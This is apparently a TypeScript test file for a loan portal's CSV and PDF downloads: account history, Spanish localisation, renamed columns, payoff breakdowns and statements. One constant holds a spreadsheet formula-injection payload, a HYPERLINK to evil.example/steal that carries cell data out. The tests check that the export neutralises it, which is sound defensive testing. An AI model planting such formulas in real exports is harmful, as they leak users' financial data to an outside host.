import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertHistory } from '../../store/accounts/history-repo.ts';
import { csvRows } from '../../testing/csv-rows.ts';
import { pdfPageTexts } from '../../testing/pdf-text.ts';
import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';

type Row = {
  TransactionDate: string;
  TransactionTime: string;
  TransactionDescription: string;
  PrincipalAmount: number;
  InterestAmount: number;
  OtherAmount: number;
  TotalPaymentAmount: number;
  RunningPrincipalBalance: number;
};

const HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Refund")';
const ACCENTED = 'Payment from José Núñez';

describe('accounts routes: downloaded CSV and PDF documents', () => {
  let app: TestApp;
  let token = '';
  let loan = '';
  const get = (path: string) => app.call(path, { headers: { UserToken: token } });
  const download = async (DownloadType: number, DaysOfHistory = 90, Language?: string) => {
    const res = await app.call('/api/AccountHistory/RetrieveDownloadToken', {
      json: { AccountNumber: loan, DaysOfHistory, DownloadType, ...(Language ? { Language } : {}) },
      headers: { UserToken: token },
    });
    return app.call(`/api/AccountHistory/DownloadAccountHistory?token=${await res.text()}`);
  };

  beforeAll(async () => {
    app = await startTestApp();
    token = await app.login('delinquent');
    loan = (await (await get('/api/accountList')).json()).Accounts.find((a: { Type: number }) => a.Type === 0).Number;
    const today = app.ctx.clock().toISOString().slice(0, 10);
    // A borrower-typed description reaches the history through payment memos: one hostile, one accented.
    await insertHistory(app.ctx.db, loan, [
      {
        date: today,
        time: '09:15:00',
        description: HOSTILE,
        principal: 0,
        interest: 0,
        other: -15,
        total: -15,
        runningBalance: 0,
      },
      {
        date: today,
        time: '09:16:00',
        description: ACCENTED,
        principal: 0,
        interest: 0,
        other: 0,
        total: 0,
        runningBalance: 0,
      },
    ]);
  }, 180_000);
  afterAll(() => app.close());

  it('when the history CSV is downloaded then it is UTF-8 with a BOM and holds exactly the rows the history call returns', async () => {
    const { List }: { List: Row[] } = await (await get(`/api/AccountHistory?accountNumber=${loan}&days=90`)).json();
    const res = await download(0);
    expect(res.headers.get('content-disposition')).toMatch(/history-.*\.csv/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = csvRows(bytes.subarray(3).toString('utf8'));
    // The header row is the table's labels (accountHistory.*Column) in the borrower's language (decision 363).
    expect(header).toEqual([
      'Date',
      'Time',
      'Description',
      'Principal',
      'Interest',
      'Other',
      'Total Payment',
      'Principal Balance',
    ]);
    expect(rows.length).toBe(List.length);
    const defused = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    expect(rows).toEqual(
      List.map((r) => [
        r.TransactionDate,
        r.TransactionTime,
        defused(r.TransactionDescription),
        ...[r.PrincipalAmount, r.InterestAmount, r.OtherAmount, r.TotalPaymentAmount, r.RunningPrincipalBalance].map(
          (n) => n.toFixed(2),
        ),
      ]),
    );
  });

  it('when a description is a formula then the CSV cell is plain text starting with an apostrophe, and a negative amount stays a number', async () => {
    const rows = csvRows(await (await download(0)).text());
    const hostile = rows.find((r) => r[2]?.includes('HYPERLINK'))!;
    expect(hostile[2]).toBe(`'${HOSTILE}`);
    expect(hostile[5]).toBe('-15.00');
    expect(rows.find((r) => r[2] === ACCENTED)).toBeDefined();
  });

  it('when the history PDF is downloaded then its text holds the account, the institution, the column headings, page numbers and accented names', async () => {
    const { List }: { List: Row[] } = await (await get(`/api/AccountHistory?accountNumber=${loan}&days=36500`)).json();
    const res = await download(1, 36500);
    expect(res.headers.get('content-type')).toMatch(/application\/pdf/);
    const pages = await pdfPageTexts(Buffer.from(await res.arrayBuffer()));
    expect(pages[0]).toContain(loan);
    const [y, m, d] = app.ctx.clock().toISOString().slice(0, 10).split('-');
    expect(pages[0]).toMatch(new RegExp(`Period\\s+\\d{2}/\\d{2}/\\d{4} to ${m}/${d}/${y} \\(36500 days\\)`));
    expect(pages[0]).toMatch(new RegExp(`Transactions\\s+${List.length}\\b`));
    expect(pages[0]).toContain('Fixture Bank');
    expect(pages[0]).toContain(`Page 1 of ${pages.length}`);
    // The headings are the table's labels from the settings catalogue (accountHistory.*Column), as on screen.
    expect(pages[0]).toMatch(
      /Date\s+Time\s+Description\s+Principal\s+Interest\s+Other\s+Total Payment\s+Principal Balance/,
    );
    expect(pages.join('\n')).toContain(ACCENTED);
  });

  it('when the borrower reads Spanish then the CSV header row and the PDF are in Spanish, dates es-US, amounts as in English', async () => {
    const [header] = csvRows(
      Buffer.from(await (await download(0, 90, 'es')).arrayBuffer())
        .subarray(3)
        .toString('utf8'),
    );
    expect(header).toEqual([
      'Fecha',
      'Hora',
      'Descripción',
      'Capital',
      'Intereses',
      'Otros',
      'Pago total',
      'Saldo de capital',
    ]);
    const pages = await pdfPageTexts(Buffer.from(await (await download(1, 90, 'es')).arrayBuffer()));
    const [y, m, d] = app.ctx.clock().toISOString().slice(0, 10).split('-');
    expect(pages[0]).toContain('Historial de la cuenta');
    expect(pages[0]).toMatch(/Cuenta\s+\S+/);
    expect(pages[0]).toMatch(new RegExp(`Período\\s+del \\d{2}/\\d{2}/\\d{4} al ${d}/${m}/${y} \\(90 días\\)`));
    expect(pages[0]).toMatch(/Transacciones\s+\d+/);
    expect(pages[0]).toMatch(
      /Fecha\s+Hora\s+Descripción\s+Capital\s+Intereses\s+Otros\s+Pago total\s+Saldo de capital/,
    );
    expect(pages[0]).toContain(`${d}/${m}/${y}`);
    expect(pages[0]).toContain(`Página 1 de ${pages.length}`);
    expect(pages[0]).toContain('-15.00');
  });

  it('when the token asks for a language the catalogue lacks then it is refused', async () => {
    const res = await app.call('/api/AccountHistory/RetrieveDownloadToken', {
      json: { AccountNumber: loan, DaysOfHistory: 90, DownloadType: 0, Language: 'xx' },
      headers: { UserToken: token },
    });
    expect(res.status).toBe(400);
  });

  it("when the lender renames a history column then the PDF's heading uses the lender's label", async () => {
    const settings = (values: Record<string, string>) =>
      app.call('/__mock/settings', { method: 'PUT', json: { settings: values, institutionOptions: {} } });
    expect(
      (await settings({ 'accountHistory.principalColumn': 'Capital', 'accountHistory.dateColumn': 'Posted' })).status,
    ).toBeLessThan(300);
    try {
      const [text] = await pdfPageTexts(Buffer.from(await (await download(1)).arrayBuffer()));
      expect(text).toMatch(/Posted\s+Time\s+Description\s+Capital\s+Interest/);
    } finally {
      await settings({});
    }
  });

  it('when the payoff breakdown is downloaded then its table shows the total payoff amount for the loan and borrower', async () => {
    const today = app.ctx.clock().toISOString().slice(0, 10);
    const tokenText = await (
      await app.call('/api/PaymentInformation/RetrieveDownloadToken', {
        json: { AccountNumber: loan, EffectiveDate: today },
        headers: { UserToken: token },
      })
    ).json();
    const [text] = await pdfPageTexts(
      Buffer.from(
        await (
          await app.call(`/api/PaymentInformation/DownloadPayoffQuoteBreakdown?downloadToken=${tokenText}`)
        ).arrayBuffer(),
      ),
    );
    expect(text).toMatch(/Item\s+Amount/);
    expect(text).toMatch(/Total payoff amount\s+\$[\d,]+\.\d{2}/);
    expect(text).toContain(loan);
    expect(text).toContain('Dana Reyes');
    expect(text).toContain('Page 1 of 1');
  });

  it('when a statement is opened then its PDF has the letterhead, the account and the transaction table', async () => {
    const year = app.ctx.clock().getUTCFullYear() - 1;
    const [s] = (
      await (await get(`/api/accountEStatements/GetStatementList?AccountNumber=${loan}&Year=${year}`)).json()
    ).StatementList;
    const q = new URLSearchParams({ Date: s.Date, Number: s.Number, Type: s.Type, Id: s.Id });
    const { StatementUrl } = await (await get(`/api/AccountEstatements/GetAmsiveStatementUrl?${q.toString()}`)).json();
    const [text] = await pdfPageTexts(Buffer.from(await (await app.call(StatementUrl)).arrayBuffer()));
    expect(text).toContain('Fixture Bank');
    expect(text).toContain('Account Statement');
    expect(text).toContain(loan);
    expect(text).toMatch(/Date\s+Description\s+Amount\s+Balance/);
    expect(text).toMatch(/Closing balance: [\d,]+\.\d{2}/);
  });
});
